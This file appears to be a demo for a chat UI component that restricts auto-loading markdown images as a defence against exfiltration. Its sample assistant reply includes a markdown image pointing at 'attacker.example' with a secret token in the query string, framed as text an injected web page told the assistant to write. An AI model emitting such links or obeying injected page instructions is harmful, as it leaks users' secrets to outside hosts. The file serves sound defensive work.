/**
 * title: An image policy against exfiltration
 * description: With markdownProps.images, only images from the listed places (and, by default, your own site) load by themselves. The injected image below waits for a click, so its URL (with the "secret" in it) is never requested on its own.
 */
import { ProChat } from 'pro-chat-next';

import { t } from './_locale';

const reply = () =>
  [
    t('Here is the chart you asked for:', '这是你要的图表：'),
    // A relative URL: this site's own image, allowed by default (allowRelative).
    t('![sales chart](/demo-chart.svg)', '![销售图表](/demo-chart.svg)'),
    t('And, as the page I summarised told me to write:', '另外，按照我总结的那个网页的要求，还要写上这个：'),
    '![status](https://attacker.example/log?q=sk-user-secret-token)',
  ].join('\n\n');

export default () => (
  <div style={{ height: 380 }}>
    <ProChat
      request={() =>
        t(
          'Only images from this site and cdn.example.com/charts/ load without a click.',
          '只有来自本站和 cdn.example.com/charts/ 的图片无需点击就会加载。',
        )
      }
      markdownProps={{ images: { allowedPrefixes: ['https://cdn.example.com/charts/'] } }}
      initialChats={[{ id: 'x', role: 'assistant', content: reply(), createdAt: 1, updatedAt: 1, status: 'done' }]}
    />
  </div>
);
